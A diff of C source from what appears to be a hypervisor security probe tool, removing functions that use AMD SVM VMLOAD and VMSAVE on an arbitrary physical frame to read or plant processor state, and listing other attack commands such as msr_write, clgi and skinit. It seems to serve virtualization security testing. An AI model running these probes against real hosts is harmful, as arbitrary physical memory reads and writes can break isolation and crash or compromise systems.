@@ -20,8 +20,6 @@
 #include "attack.h"
 #include "probe.h"
 
-#define KGSBASE_OFF 0x620 /* VMCB save area (0x400) + kernel_gs_base (0x220) */
-
 bool svm_on(u64 *old_efer)
 {
 	if (probe_rdmsr(MSR_EFER, old_efer) != PROBE_OK)
@@ -125,88 +123,6 @@ void *svm_page(int i)
 	return pages[i];
 }
 
-/* What the probed frame holds at the VMCB kernel_gs_base slot, read via the direct map;
- * false if the host cannot read it. */
-static bool out_expect(u64 pfn, u64 *w)
-{
-	int t = probe_read64(phys_to_virt(PFN_PHYS(pfn) + KGSBASE_OFF), w);
-
-	if (t == PROBE_OK)
-		out("expect=0x%llx ", *w);
-	else
-		out("expect=fault ");
-	return t == PROBE_OK;
-}
-
-/*
- * vmload PFN: load FS/GS/TR/LDTR and the syscall MSRs from a frame (APM vol. 2
- * §15.5.2) and read one of them back, KernelGsBase = 8 bytes of the frame. The host's
- * own state is saved first and reloaded right after, with interrupts off: between the
- * two VMLOADs GS.base is garbage and nothing may touch per-CPU data. The CPU makes
- * the loaded base canonical (QEMU sign-extends bit 47), so 48 bits are compared.
- */
-static int vmload_attack(int argc, const u64 *a)
-{
-	void *scratch = svm_page(SVM_SCRATCH);
-	unsigned long flags;
-	u64 efer, kgs = 0, want = 0;
-	int t_save, t = -2;
-	bool known;
-
-	if (!scratch)
-		return -ENOMEM;
-	known = out_expect(a[0], &want);
-	local_irq_save(flags);
-	svm_on(&efer);
-	t_save = probe_vmsave(__pa(scratch));
-	if (t_save == PROBE_OK) {
-		t = probe_vmload(PFN_PHYS(a[0]));
-		if (t == PROBE_OK)
-			probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
-		probe_vmload(__pa(scratch));
-	}
-	svm_restore(efer);
-	local_irq_restore(flags);
-	if (t_save != PROBE_OK)
-		out("result=fault trap=%d step=vmsave_own_page\n", t_save);
-	else if (t != PROBE_OK)
-		out("result=fault trap=%d\n", t);
-	else
-		out("result=loaded kgsbase=0x%llx match=%s\n", kgs,
-		    !known ? "unknown" : ((kgs ^ want) << 16) ? "no" : "yes");
-	return 0;
-}
-
-/*
- * vmsave PFN: VMSAVE writes processor state into the frame. KernelGsBase is set to a
- * marker for the duration (harmless in kernel mode with interrupts off: only SWAPGS
- * reads it), so "landed" means the frame's kernel_gs_base slot holds the marker.
- */
-static int vmsave_attack(int argc, const u64 *a)
-{
-	const u64 marker = 0xffff8badc0de0000ull | (a[0] & 0xffff);
-	unsigned long flags;
-	u64 efer, kgs = 0, got = 0;
-	int t;
-
-	local_irq_save(flags);
-	svm_on(&efer);
-	probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
-	probe_wrmsr(MSR_KERNEL_GS_BASE, marker);
-	t = probe_vmsave(PFN_PHYS(a[0]));
-	probe_wrmsr(MSR_KERNEL_GS_BASE, kgs);
-	svm_restore(efer);
-	local_irq_restore(flags);
-	out("marker=0x%llx ", marker);
-	if (t != PROBE_OK)
-		out("result=fault trap=%d\n", t);
-	else if (!out_expect(a[0], &got))
-		out("result=executed landed=unknown\n");
-	else
-		out("result=executed landed=%s\n", got == marker ? "yes" : "no");
-	return 0;
-}
-
 /* clgi: CLGI then STGI; a guest that may clear GIF can hold off the hypervisor's NMIs. */
 static int clgi_attack(int argc, const u64 *a)
 {
@@ -260,7 +176,8 @@ const struct atk_cmd svm_cmds[] = {
 	{ "vmcr_write", 1, vmcr_write, "VAL" },
 	{ "msr_read", 1, msr_read, "MSR" },
 	{ "msr_write", 2, msr_write, "MSR VAL" },
-	{ "vmload", 1, vmload_attack, "PFN" },
+	{ "vmload", 1, vmload_attack, "PFN" },	/* vmload.c */
+	{ "vmload_byhand", 1, vmload_byhand, "PFN" },
 	{ "vmsave", 1, vmsave_attack, "PFN" },
 	{ "clgi", 0, clgi_attack, "" },
 	{ "skinit", 1, skinit_attack, "PFN" },
